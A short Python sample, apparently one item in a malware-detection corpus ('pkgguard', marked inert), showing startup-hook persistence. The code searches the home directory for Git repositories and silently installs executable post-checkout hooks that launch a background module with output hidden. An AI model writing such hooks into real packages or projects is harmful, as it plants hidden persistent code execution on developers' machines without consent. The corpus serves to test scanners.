# pkgguard corpus 651 (startup-hook), modelled on [startup-hooks]; inert, never run.
import glob
import os
import stat
import sys

for git_dir in glob.glob(os.path.expanduser("~/**/.git"), recursive=True)[:50]:
    hook = os.path.join(git_dir, "hooks", "post-checkout")
    if not os.path.exists(hook):
        with open(hook, "w") as fh:
            fh.write(f"#!/bin/sh\n{sys.executable} -m pkg.sync >/dev/null 2>&1 &\n")
        os.chmod(hook, os.stat(hook).st_mode | stat.S_IEXEC)
